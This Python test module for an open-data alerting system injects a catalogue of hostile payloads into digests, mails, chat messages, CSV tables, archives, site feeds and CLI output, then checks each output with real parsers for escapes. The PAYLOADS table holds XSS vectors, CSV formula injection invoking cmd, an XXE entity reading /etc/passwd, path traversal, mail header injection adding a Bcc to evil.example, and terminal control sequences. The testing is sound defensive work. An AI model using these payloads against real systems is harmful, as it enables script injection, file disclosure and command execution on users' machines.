"""Injected text: every output is fed every payload in every field that a portal fills, and read back by a real parser.

A payload escapes where the reader of an output would take it for more than text: a tag, an attribute, an address, a
mention, a formula, a header, a key, a file name, or a sign that moves what stands around it.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass, fields, replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

from lxml import html as lxml_html
from markdown_it import MarkdownIt

from alerts.audit import sheet
from alerts.delivery import webhook as signed
from alerts.delivery.message import Message
from alerts.delivery.sending import deliver
from alerts.delivery.targets import targets_of
from alerts.digest.build import build, build_first
from alerts.digest.model import Digest
from alerts.digest.overdue import OverdueDataset, as_csv
from alerts.digest.render import Rendered, readable
from alerts.engine.repository import prepare
from alerts.model.events import Event, event_id
from alerts.model.kinds import kinds
from alerts.model.places import Silent
from alerts.publish.evidence.archive import archive
from alerts.publish.evidence.gather import Dossier, Side, Subject
from alerts.publish.folder import Folder
from alerts.site.build import Site
from alerts.text.links import has_page
from alerts.text.sanitising import BREAK
from alerts.text.spreadsheets import write as write_sheet
from opendata_spiders.register import load as load_register
from opendata_spiders.store.config import StoreConfig
from opendata_spiders.store.connect import Store, open_store
from opendata_spiders.store.content import storable
from opendata_spiders.store.models import Entry, Run, Version
from tests.alerts.delivery.receivers import Authority, Hook, MailBox, Request, mail_server, services_behind_proxy
from tests.alerts.digest.making import NOW, PLACES, Reader, ago, event, view
from tests.alerts.publish.filling import a_run, put_city, put_events
from tests.chaos.figures import Figure, Options
from tests.score.run import fresh_mongod

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    "html": (
        "<script>alert('{m}')</script>",
        "<img src=x{m} onerror=alert(1)>",
        "\"><svg/onload=alert('{m}')>",
        "' onmouseover='alert(1)' x='{m}",
        "</title></style></script><iframe src=javascript:{m}>",
        "<!--{m}--><!-- --!><b>{m}</b>",
        "<![CDATA[{m}]]><x>",
        "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>",
        "&lt;script&gt;{m}&lt;/script&gt;",
        "<math><mtext></p><style><img title='</style><img src=1{m}>'>",
        "<plaintext>{m}",
        "<base href=//evil.example/{m}><form action=//evil.example>",
        "{{{{ {m} }}}}{{% raw %}}${{{m}}}#{{{m}}}",
    ),
    "url": (
        "javascript:alert('{m}')",
        "https://evil.example/{m}",
        "//evil.example/{m}",
        "data:text/html,{m}",
        "https://data.guiyang.gov.cn@evil.example/{m}",
        'http://data.jinan.gov.cn/{m}"><script>',
        "www.evil.example/{m} evil.cn/{m} mailto:{m}@evil.example",
        "http://[::1/{m}",
    ),
    "css": ("x:expression(alert('{m}'))", "</style>{m}<style>*{{display:none}}", "url(//evil.example/{m})"),
    "markdown": (
        "[{m}](https://evil.example/)",
        "![{m}](https://evil.example/p.png)",
        "<https://evil.example/{m}>",
        "[{m}]: https://evil.example/",
        "`{m}` ```{m}```",
        "# {m}\n## {m}\n- {m}\n> {m}",
        "***{m}*** __{m}__ ~~{m}~~ |{m}|{m}|\n|--|--|",
        "\\[{m}\\](x) \\*{m}\\*",
        "[bold red]{m}[/] :warning: [link=https://evil.example]{m}[/link]",
    ),
    "mention": (
        "@all {m} @所有人 @here @channel",
        "<@U0123{m}> <!channel> <!here|{m}> <@&99>",
        '<at user_id="all">{m}</at> <at id=all></at>',
        "@13800138000 {m}",
        "<mention>@{m}</mention> #channel{m}",
    ),
    "formula": (
        "=cmd|' /C calc'!A0 {m}",
        "+{m}+1",
        "-2+3+{m}",
        "@SUM({m})",
        '\t=HYPERLINK("//evil.example/{m}")',
        "\r=1+{m}",
        "＝1＋{m}",
        '"\r\n=1+{m}","',
        " \u200b=1+{m}",
    ),
    "structure": (
        "]]>{m}<entry/>",
        '<!DOCTYPE x [<!ENTITY {m} SYSTEM "file:///etc/passwd">]>&{m};',
        "<?xml-stylesheet href='{m}'?>",
        '","{m}":"x","y":["',
        "{m}\\u0022,\\",
        "__proto__.{m}",
        "../../{m}/../../etc/passwd",
        "{m}\\..\\con:nul",
    ),
    "header": (
        "{m}\r\nBcc: all@evil.example\r\n\r\nbody",
        "{m}\nX-Injected: 1",
        "{m}\x0bX-Injected: 1\x0c",
        "{m}\u2028Subject: x\u2029",
        "=?utf-8?q?{m}=0d=0aBcc:x?=",
        "{m}\x85Cc: x",
        '"{m}" <x@evil.example>, y@evil.example',
    ),
    "unseen": (
        "\x1b[2J{m}\x1b]0;owned\x07\x9b31m",
        "\x1b]8;;https://evil.example\x1b\\{m}\x1b]8;;\x1b\\",
        "{m}\u202egnp.exe\u2066\u2069",
        "{m}\u200b\u200d\ufeff\u2060\u00ad",
        "{m}\x00\x01\x08\x7f",
        "{m}\ud800x\udfff",
        "{m}\ufffe\uffff\U0001ffff",
        "\U000e0041{m}\U000e007f",
        "{m}" + "\u0300" * 400,
        "{m}\u3164\u115f\u2800",
    ),
    "long": (
        "{m}" + "公" * 20_000,
        "{m} " + "<b>" * 5_000,
        "{m}" + "x." * 9_000,
        "[" * 5_000 + "{m}",
        "{m}" + "\n" * 9_000,
    ),
}
"""By what they are to break; `{m}` is the mark by which a payload is found again."""

LANGUAGES = ("zh", "en")
CHATS = {
    "wecombot": "wecombot://a1b2c3d4e5f6a7b8",
    "dingtalk": "dingtalk://a1b2c3d4e5f6a7b8",
    "feishu": "feishu://a1b2c3d4e5f6a7b8",
    "lark": "lark://a1b2c3d4e5f6a7b8",
    "schan": "schan://a1b2c3d4e5f6a7b8",
    "pushdeer": "pushdeers://a1b2c3d4e5f6a7b8",
    "bark": "barks://api.day.app/a1b2c3d4e5f6a7b8",
    "pushplus": "pushplus://a1b2c3d4e5f6a7b8a1b2c3d4e5f6a7b8",
    "tgram": "tgram://123456789:abcdefg_hijklmnop/12315544",
    "slack": "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/",
    "discord": "discord://4174216298/JHMHI8qBe7bk2ZwO5U711o3dV_js",
    "gchat": "gchat://abcdefgh/abcdefgh/abcdefgh",
}
"""One address of each service that has an escaping of its own."""
YES = json.dumps(
    {"errcode": 0, "code": 0, "errno": 0, "ok": True, "StatusCode": 0, "data": {"errno": 0},
     "content": {"result": ["{}"]}, "message": "success", "result": {"message_id": 1}}
).encode()  # fmt: skip
_ACTIVE = {"link_open", "image", "code_inline", "code_block", "fence", "html_inline", "html_block", "s_open", "em_open",
           "strong_open", "heading_open", "table_open", "blockquote_open"}  # fmt: skip
_LAYOUT = frozenset("\n" + BREAK)
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_OURS = frozenset(("runs", "rounds", "of", "of_severity", "of_seq", "retracted", "restates"))
"""Evidence that no portal fills: ids and kinds of our own."""
_NUMBERS = (
    "advances", "away_days", "back", "broken_days", "by_id", "by_key", "catalogue", "chance", "checks", "count", "days", "declared",
    "down_days", "failed", "family_hosts", "first_observed", "hosts", "hours", "longest_days", "looked", "matched", "median_gap", "namesakes",
    "new_only", "nights", "old_only", "opened", "own_gap", "samples", "score", "seconds", "seen", "share", "silent_days", "status", "swings",
    "threshold", "unreachable_runs", "vanished", "watched_days", "working_days",
)  # fmt: skip
"""How the names of evidence begin that we count ourselves."""
_OWN_ADDRESS = re.compile(r"https?://data\.jinan\.gov\.cn/\S*")
"""What follows the portal's own host is part of one address there, whatever it says."""
_MENTION = re.compile(r"@|<[!@/a-z#]", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Attempt:
    """One payload with a mark of its own."""

    group: str
    number: int
    text: str
    mark: str

    def __str__(self) -> str:
        return f"{self.group} {self.number}: {self.text[:60]!r}"


def attempts(options: Options) -> list[Attempt]:
    """All payloads, or an even share of them from each group."""
    made = []
    for group, texts in PAYLOADS.items():
        count = options.count(len(texts))
        for number in range(count):
            place = (options.seed - 1 + number * len(texts) // count) % len(texts)
            mark = f"zq{len(made)}qz"
            made.append(Attempt(group, place, texts[place].format(m=mark), mark))
    return made


HARMLESS = Attempt("harmless", 0, "公交站点zq000qz", "zq000qz")


# --- what a portal fills


def events_of(one: Attempt) -> list[Event]:
    """Every kind of event with the payload as title, office, id, address and in all of its evidence, twice over.

    First in the shapes that the rules give, then in others.
    """
    made, text = [], _kept(one.text)
    for kind in kinds().values():
        for shape in (_plausible, _brutal):
            evidence = {name: shape(name, text) for name in kind.evidence if name not in _OURS}
            evidence |= _typed(kind.name, text)
            dataset = text if kind.scope == "dataset" else None
            found = event(
                kind.name, "jinan", dataset, title=text, office=text, evidence=evidence, since=ago(3),
                page_url=f"https://data.jinan.gov.cn/{text}" if shape is _plausible else text,
            )  # fmt: skip
            made.append(replace(found, id=event_id(kind.name, "jinan", one.mark, shape.__name__)))
    return made


def _typed(kind: str, text: str) -> dict[str, Any]:
    """What of a kind's evidence has a shape of its own there."""
    if kind in ("dataset.shrunk", "dataset.grew", "platform.refilled", "platform.incident"):
        return {"before": 900, "after": 90}
    return {"after": [[text, 3], [text, 2]]} if kind == "office.renamed" else {}


def _kept(text: str) -> str:
    """As the store keeps it: events are read from there."""
    return str(storable(text))


def _plausible(name: str, text: str) -> Any:
    named = {"id": text, "title": text, "office": text, "last_seen": ago(3)}
    shapes: Mapping[str, Any] = {
        "datasets": [named, named], "old": [named], "new": [named], "offices": [[text, 3]], "themes": [[text, 2]],
        "absent": [{"run": text, "at": ago(2), "look": "gone"}], "evidence": {"date": ago(9), "kind": text, "dataset": text},
        "fields": {text: {"before": text, "after": text, "before_raw": text, "after_raw": text}},
        "before": {"before": text, "after": text, "before_raw": text, "after_raw": text, "iso": "P1M"},
        "measures": {text: [1, 2]}, "entry": {"version": text, "clocks": {text: text}, "frequency": text},
        "replaced": {"title": text, "office": text}, "reused": {"title": text, "office": text},
    }  # fmt: skip
    if name in shapes:
        return shapes[name]
    if name in ("claimed", "claimed_before", "claimed_after", "last_seen", "due_at", "published", "broken_since"):
        return ago(4)
    if name in ("added", "removed", "renamed", "dropped", "portals", "looks_like", "confirmed", "restamps"):
        return [text, text]
    return 3 if name.startswith(_NUMBERS) else text


def _brutal(name: str, text: str) -> Any:
    """Another shape where the rule gives a text: a field of a portal may hold anything."""
    usual = _plausible(name, text)
    shapes = (text, [text, text], {text: text, "title": text}, [{"id": text, "title": text, text: text}])
    return shapes[len(name) % len(shapes)] if isinstance(usual, str) else usual


def digest_of(one: Attempt, language: str) -> Digest:
    watched = frozenset({("jinan.1", _kept(one.text))})
    built = build(Reader(), events_of(one), view(language, watched=watched))
    if built is None:
        raise AssertionError(f"nothing is told of {one}")
    return built


# --- how an output is read back


class Structure(HTMLParser):
    """Tags and names of attributes as browsers' own tokenizers find them, and where the mark stands."""

    def __init__(self, page: str, mark: str) -> None:
        super().__init__(convert_charrefs=True)
        self.mark, self.inside = mark, [""]
        self.tags: set[tuple[str, tuple[str, ...]]] = set()
        self.found: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.inside.append(tag)
        for name, value in attrs:
            if self.mark in name or (self.mark in (value or "") and not _is_own_address(name, value or "")):
                self.found.append(f"attribute {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        self.inside.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        if self.mark in data and self.inside[-1] in ("script", "style"):
            self.found.append(f"text of {self.inside[-1]}")

    def handle_comment(self, data: str) -> None:
        self._outside(data)

    def handle_decl(self, decl: str) -> None:
        self._outside(decl)

    def handle_pi(self, data: str) -> None:
        self._outside(data)

    def unknown_decl(self, data: str) -> None:
        self._outside(data)

    def _outside(self, data: str) -> None:
        if self.mark in data:
            self.found.append(f"declaration or comment {data[:40]!r}")


def _is_own_address(name: str, value: str) -> bool:
    try:
        parts = urlsplit(value)
    except ValueError:
        return False
    return (
        name == "href" and parts.scheme in ("http", "https") and parts.netloc in {one.host for one in PLACES.values()}
    )


def in_html(page: str, mark: str, plain: str) -> Iterator[str]:
    """Escapes in a page, whose `plain` twin holds harmless text: read by two parsers."""
    read, twin = Structure(page, mark), Structure(plain, HARMLESS.mark)
    yield from read.found
    if more := read.tags - twin.tags:
        yield f"tags {sorted(more)[:2]}"
    tree = lxml_html.document_fromstring(_without_nul(page).encode("utf-8", "surrogatepass"), _UTF8)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            if mark in (element.text or ""):
                yield "lxml: a comment or instruction"
        elif element.tag in ("script", "style") and mark in (element.text or ""):
            yield f"lxml: text of {element.tag}"
        elif mark in element.tag or any(mark in name for name in element.attrib):
            yield "lxml: a name"
    yield from unseen_in(page)


_UTF8 = lxml_html.HTMLParser(encoding="utf-8")


def _without_nul(page: str) -> str:
    return page.replace("\x00", "\ufffd")


def unseen_in(text: str, allowed: frozenset[str] = _LAYOUT) -> Iterator[str]:
    """Signs that nobody sees and everybody obeys: controls, directions, halves, sentence breaks."""
    found = {
        char
        for char in text.replace("\r\n", "\n")
        if (unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")) and char not in allowed
    }
    if found:
        yield f"signs {sorted(map(hex, map(ord, found)))[:4]}"


def in_markdown(body: str, plain: str) -> Iterator[str]:
    """Escapes in Markdown: whatever formats in it must format in its harmless twin as well."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    read, twin = (Counter(_tokens(reader, text)) for text in (body, plain))
    if more := {name for name in _ACTIVE if read[name] > 0 and twin[name] == 0}:
        yield f"Markdown {sorted(more)}"
    yield from in_text(body, plain)


def _tokens(reader: MarkdownIt, text: str) -> Iterator[str]:
    for token in reader.parse(readable(text)):
        yield token.type
        yield from (child.type for child in token.children or ())


def in_text(body: str, plain: str) -> Iterator[str]:
    """Escapes in text for a chat, whose client makes links and mentions of its own accord."""
    if _MENTION.search(body) and not _MENTION.search(plain):
        yield "a mention or tag"
    beside = _OWN_ADDRESS.sub("", body)
    if "evil.example" in beside or "evil.cn" in beside:
        yield "an address that a client turns into a link"
    yield from unseen_in(body)


def in_rows(table: str, columns: int, rows: int) -> Iterator[str]:
    """Escapes in a CSV file as a spreadsheet reads it."""
    read = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))
    if len(read) != rows + 1 or any(len(row) != columns for row in read):
        yield f"the table has {len(read)} rows of {sorted({len(row) for row in read})}"
    for row in read:
        for cell in row:
            if cell.startswith(_FORMULA) and not re.fullmatch(r"-?\d+", cell):
                yield f"a formula {cell[:30]!r}"
            yield from unseen_in(cell, frozenset())


def strings_of(value: Any) -> Iterator[str]:
    """Every string in a JSON document, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, one in value.items():
            yield key
            yield from strings_of(one)
    elif isinstance(value, list):
        for one in value:
            yield from strings_of(one)


# --- the outputs


Found = Iterator[tuple[str, Attempt, str]]
"""Output, attempt, what escaped."""


def in_digests(many: list[Attempt]) -> Found:
    """The digest as mail, chat, text and subject, and as the document of a web hook."""
    for language in LANGUAGES:
        plain = Rendered(digest_of(HARMLESS, language))
        for one in many:
            digest = digest_of(one, language)
            shown = Rendered(digest)
            yield from (("mail (HTML)", one, why) for why in in_html(shown.html, one.mark, plain.html))
            yield from (("chat (Markdown)", one, why) for why in in_markdown(shown.markdown, plain.markdown))
            yield from (("text", one, why) for why in in_text(shown.text, plain.text))
            yield from (("subject", one, why) for why in _in_line(shown.subject))
            yield from (("web hook (JSON)", one, why) for why in _in_hook(one, digest, shown))
        hostile = (Silent("<b>拉萨</b>\x1b", "<b>Lhasa</b>\u202e", "no_portal"),)
        first = Rendered(build_first(Reader(name="x"), view(language, silent=hostile)))
        quiet = Rendered(build_first(Reader(name="x"), view(language, silent=())))
        yield from (("mail (HTML)", HARMLESS, why) for why in in_html(first.html, "zqzq", quiet.html))


def _in_line(line: str) -> Iterator[str]:
    if "\n" in line:
        yield "two lines"
    yield from in_text(line, "")


def _in_hook(one: Attempt, digest: Digest, shown: Rendered) -> Iterator[str]:
    body = signed.document(
        delivery="d", kind=digest.kind.value, language=digest.language, subject=shown.subject,
        text=readable(shown.text), events=signed.rows(events_of(one)), events_total=1,
    )  # fmt: skip
    read = json.loads(body.encode("utf-8"), parse_constant=_refuse)
    known = json.loads(signed.document(delivery="", kind="", language="", subject="", text=""))
    if read.keys() != known.keys():
        yield f"keys {sorted(read.keys() ^ known.keys())}"
    for text in strings_of(read):
        yield from unseen_in(text)


def _refuse(constant: str) -> Any:
    raise ValueError(f"{constant} is no JSON")


def in_mails(many: list[Attempt]) -> Found:
    """Mail as a mail server gets it; its subject names a watched dataset."""
    box = MailBox(strict=True)
    with mail_server(box) as port:
        address = f"mailto://127.0.0.1:{port}?mode=insecure&from=watch@nightwatch.cn&to=a@reader.cn"
        [target] = targets_of("desk", [address])
        sent: list[tuple[Attempt, str]] = []
        for one in (HARMLESS, *many):
            shown = Rendered(digest_of(one, "zh"))
            outcome = deliver(target, Message("m1", shown.subject, shown.html, "html", readable(shown.text), "zh"))
            if outcome.confirmed:
                sent.append((one, shown.html))
            else:
                yield "mail", one, f"not sent: {outcome.error}"
    plain, names = sent[0][1], Counter(box.mails[0].keys())
    if len(box.mails) != len(sent) or set(box.recipients) != {"a@reader.cn"}:
        yield "mail", HARMLESS, f"{len(box.mails)} mails to {sorted(set(box.recipients))}"
    for (one, _), mail in zip(sent, box.mails, strict=False):
        if Counter(mail.keys()) != names:
            yield "mail", one, f"headers {sorted(Counter(mail.keys()) - names)}"
        for name, value in mail.items():
            yield from (("mail", one, f"{name}: {why}") for why in unseen_in(str(value), frozenset()))
        body = mail.get_body(("html",))  # type: ignore[attr-defined]
        yield from (("mail", one, why) for why in in_html(body.get_content(), one.mark, plain))
        if [part.get_content_type() for part in mail.walk()] != [
            part.get_content_type() for part in box.mails[0].walk()
        ]:
            yield "mail", one, "other parts"


def in_chats(many: list[Attempt], folder: Path) -> Found:
    """Every chat service that escapes in its own way, as it gets the request."""
    hook = Hook(answer=lambda _: (200, YES))
    authority = Authority(folder)
    with (
        services_behind_proxy(hook, authority) as proxy,
        _environment(HTTPS_PROXY=proxy, REQUESTS_CA_BUNDLE=str(authority.bundle)),
    ):
        for name, address in CHATS.items():
            [target] = targets_of("desk", [address])
            plain: list[Request] = []
            for one in (HARMLESS, *many):
                shown = Rendered(digest_of(one, "zh"))
                form = target.service.format
                body = readable(shown.markdown if form == "markdown" else shown.text)[: (target.limit or 4000) // 6]
                hook.requests.clear()
                deliver(target, Message("m1", shown.subject, body, form, language="zh"))
                if not hook.requests:
                    yield name, one, "not sent"
                plain = plain or list(hook.requests)
                for sent, harmless in zip(hook.requests, plain, strict=False):
                    yield from ((name, one, why) for why in _in_request(sent, harmless, form))


def _in_request(sent: Request, harmless: Request, form: str) -> Iterator[str]:
    if sent.headers.keys() != harmless.headers.keys():
        yield f"headers {sorted(sent.headers.keys() ^ harmless.headers.keys())}"
    texts, plain = (list(_fields(request)) for request in (sent, harmless))
    if len(texts) != len(plain):
        yield "other fields"
    reads: Callable[[str, str], Iterable[str]] = in_markdown if form == "markdown" else in_text
    for text in texts:
        yield from reads(text, "\n".join(plain))


def _fields(request: Request) -> Iterator[str]:
    if request.body[:1] in (b"{", b"["):
        return strings_of(json.loads(request.body))
    return strings_of(request.form)


class _environment:  # noqa: N801 -- reads as a word of the language
    """Environment variables for a while."""

    def __init__(self, **values: str) -> None:
        self.values = values
        self.before: dict[str, str] = {}

    def __enter__(self) -> None:
        self.before = dict(os.environ)
        for name in ("https_proxy", "NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy"):
            os.environ.pop(name, None)
        os.environ.update(self.values)

    def __exit__(self, *_: object) -> None:
        os.environ.clear()
        os.environ.update(self.before)


def in_tables(many: list[Attempt]) -> Found:
    """The overdue list and the audit's sheet."""
    for one in many:
        text = one.text
        ours = {"days": 3, "state": "overdue", "slug": "jinan", "read": "2026-11-24", "read_at": NOW}
        late = [OverdueDataset(**{item.name: text for item in fields(OverdueDataset)} | ours)] * 2
        columns = len(next(csv.reader([as_csv([])])))
        yield from (("overdue (CSV)", one, why) for why in in_rows(as_csv(late), columns, 2))
        file = io.StringIO(newline="")
        write_sheet(file, sheet.HEADER, [[text] * len(sheet.HEADER)] * 2)
        yield from (("audit (CSV)", one, why) for why in in_rows(file.getvalue(), len(sheet.HEADER), 2))


def in_archives(many: list[Attempt]) -> Found:
    """The evidence of one event: its page and all files beside it."""
    plain = _unpacked(HARMLESS)
    for one in many:
        files = _unpacked(one)
        if files.keys() != plain.keys():
            yield "evidence (zip)", one, f"files {sorted(files.keys() ^ plain.keys())}"
        for name, content in files.items():
            if name.endswith(".json"):
                json.loads(content.decode("utf-8", "surrogatepass"), parse_constant=_refuse)
            if name.endswith(".html"):
                whys = in_html(content.decode("utf-8"), one.mark, plain[name].decode("utf-8"))
                yield from (("evidence (page)", one, why) for why in whys)


def _unpacked(one: Attempt) -> dict[str, bytes]:
    text = one.text
    content = dict.fromkeys(("title", "office", "description", "frequency", "open_type"), text)
    content |= {"tags": [text, text], "resources": [{"name": text, text: text}]}
    version = Version("v1", "p", text, text, content, page_url=text, list_body=text, detail_body=text)
    entry = Entry(text, "print", "v1", {"updated": text}, {"rows": text}, text, True)
    subject = Subject(text, text, Side("r1", entry, version), Side("r2", replace(entry, frequency=""), version))
    runs = [replace(a_run(name, "p", "jinan", NOW), reason=text, base_url=text) for name in ("r1", "r2")]
    told = events_of(one)[0]
    files = archive(Dossier(told, runs, runs[0], runs[1], subjects=[subject], corrections=[told]))
    with zipfile.ZipFile(io.BytesIO(files)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def in_sites(many: list[Attempt], store: Store, folder: Path) -> Found:
    """Event pages, first page, Atom and JSON feeds, of all attempts at once."""
    for one in many:
        put_events(store, *events_of(one))
    put_events(store, *events_of(HARMLESS))
    put_city(store, "jinan.1", "jinan", "stopped", NOW, silent=251)
    Site(store, load_register(), Folder(folder), site_url="https://watch.example.cn/", now=NOW).write()
    folder /= "zh"
    by_event = {told.id: one for one in (HARMLESS, *many) for told in events_of(one)}
    twins = {told.id: told.id for told in events_of(HARMLESS)}
    order = {told.id: place for one in (HARMLESS, *many) for place, told in enumerate(events_of(one))}
    plain = {
        order[name]: (folder / "events" / f"{name}.html").read_text("utf-8") for name in twins if _has(folder, name)
    }
    every = "".join(plain.values())
    expected = sum(has_page(told) for one in (HARMLESS, *many) for told in events_of(one))
    pages = sorted((folder / "events").glob("*.html"))
    if len(pages) != expected:
        yield "event page", HARMLESS, f"{len(pages)} pages of {expected}"
    for path in pages:
        one = by_event[path.stem]
        whys = in_html(path.read_text("utf-8"), one.mark, plain.get(order[path.stem], every))
        yield from (("event page", one, why) for why in whys)
    index = (folder / "index.html").read_text("utf-8")
    for one in many:
        yield from (("first page", one, why) for why in _only_text(index, one.mark))
    for path in sorted((folder / "feeds").glob("*.atom")):
        yield from _in_atom(path, many)
    for path in sorted((folder / "feeds").glob("*.json")):
        yield from _in_json_feed(path, many)


def _has(folder: Path, name: str) -> bool:
    return (folder / "events" / f"{name}.html").exists()


def _only_text(page: str, mark: str) -> Iterator[str]:
    yield from Structure(page, mark).found
    yield from unseen_in(page)


def _in_atom(path: Path, many: list[Attempt]) -> Found:
    tree = ET.fromstring(path.read_bytes())  # noqa: S314 -- our own file
    names = {element.tag for element in tree.iter()} | {name for element in tree.iter() for name in element.attrib}
    for one in many:
        if any(one.mark in name for name in names):
            yield "Atom feed", one, "a name"
    for element in tree.iter():
        text = element.text or ""
        for one in (one for one in many if one.mark in text):
            inside = element.attrib.get("type") == "html"
            whys = _only_text(text, one.mark) if inside else unseen_in(text)
            yield from (("Atom feed", one, why) for why in whys)


def _in_json_feed(path: Path, many: list[Attempt]) -> Found:
    feed = json.loads(path.read_bytes(), parse_constant=_refuse)
    for item in feed["items"]:
        for name, value in item.items():
            for text in strings_of(value):
                for one in (one for one in many if one.mark in text):
                    whys = _only_text(text, one.mark) if name == "content_html" else unseen_in(text)
                    yield from (("JSON feed", one, why) for why in whys)


COMMANDS = (
    ("events",), ("events", "--json"), ("states",), ("states", "--json"), ("runs",), ("runs", "--json"),
    ("audit",), ("audit", "--json"), ("diff", "jinan", "--json"), ("health",),
)  # fmt: skip


def in_commands(many: list[Attempt], store: Store, uri: str, folder: Path) -> Found:
    """What the commands print, as tables and as JSON, of a database in which every portal text is a payload."""
    prepare(store)
    for number, one in enumerate(many, start=1):
        _commit(store, one, number)
    environment = {
        **os.environ, "MONGODB_URI": uri, "MONGODB_DATABASE": store.db.name, "DATA_DIR": str(folder), "COLUMNS": "200",
    }  # fmt: skip
    for command in COMMANDS:
        done = subprocess.run(
            [sys.executable, "-m", "alerts", *command], env=environment, capture_output=True, check=False, timeout=300
        )
        printed = done.stdout.decode("utf-8", "replace")
        if b"Traceback" in done.stderr or not printed:
            yield " ".join(command), HARMLESS, f"printed nothing, status {done.returncode}: {done.stderr[-300:]!r}"
        whys = list(unseen_in(printed + done.stderr.decode("utf-8", "replace")))
        yield from ((" ".join(command), HARMLESS, why) for why in whys)
        if "--json" in command and printed:
            json.loads(printed, parse_constant=_refuse)


def _commit(store: Store, one: Attempt, number: int) -> None:
    text = one.text
    content = {
        "title": text,
        "office": text,
        "description": text,
        "theme": [text],
        "frequency": text,
        "open_type": text,
    }
    version = Version(f"v{number}", "jinan.1", f"d{number}", "guizhou_api", content, page_url=text, list_body=text)
    store.put_versions([version])
    entry = Entry(f"d{number}", f"print{number}", version.id, {"updated": text}, {"rows": text}, text, True)
    at = NOW - timedelta(days=100 - number % 90)
    run = Run(
        id=f"jinan-{number:04}", portal="jinan.1", slug="jinan", family="guizhou_api", epoch="e", seq=0, at=at,
        started=at, finished=at, verdict=a_run("r", "p", "s", at).verdict, reason=text, seen=1, rows=1, declared=1,
        fields=("title", "office", "description", "theme", "frequency", "open_type", "updated", "rows"), base_url=text,
    )  # fmt: skip
    store.commit(run, [entry])


def attack(options: Options) -> Iterator[Figure]:
    """Escapes by output; every figure is to be 0."""
    many = attempts(options)
    with ExitStack() as stack:
        folder = Path(stack.enter_context(TemporaryDirectory(prefix="payloads-")))
        uri = stack.enter_context(fresh_mongod())
        stores = [
            stack.enter_context(open_store(StoreConfig(uri=uri, database=name), env={})) for name in ("pages", "cli")
        ]
        yield _figure("digests and web hooks", in_digests(many), len(many) * len(LANGUAGES))
        yield _figure("mails as sent", in_mails(many), len(many))
        yield _figure("chat messages as sent", in_chats(many, folder), len(many) * len(CHATS))
        yield _figure("tables for spreadsheets", in_tables(many), 2 * len(many))
        yield _figure("evidence archives", in_archives(many), len(many))
        yield _figure("site and feeds", in_sites(many, stores[0], folder / "site"), len(many) * 2 * len(kinds()))
        yield _figure("commands", in_commands(many, stores[1], uri, folder), len(many) * len(COMMANDS))


def _figure(name: str, found: Found, of: int) -> Figure:
    escapes = [f"{output}: {one}: {why}" for output, one, why in found]
    return Figure(f"escapes: {name}", len(escapes), 0, of, tuple(dict.fromkeys(escapes))[:12])
